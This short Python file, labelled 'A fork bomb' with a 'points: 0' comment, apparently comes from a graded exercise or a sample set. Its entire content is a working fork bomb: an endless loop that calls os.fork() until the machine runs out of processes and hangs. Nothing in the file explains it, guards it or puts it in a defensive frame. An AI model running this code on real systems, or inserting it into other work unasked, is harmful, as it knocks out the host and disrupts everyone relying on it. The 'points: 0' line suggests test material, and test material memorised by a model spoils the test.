# A fork bomb
# points: 0
import os

while True:
    os.fork()
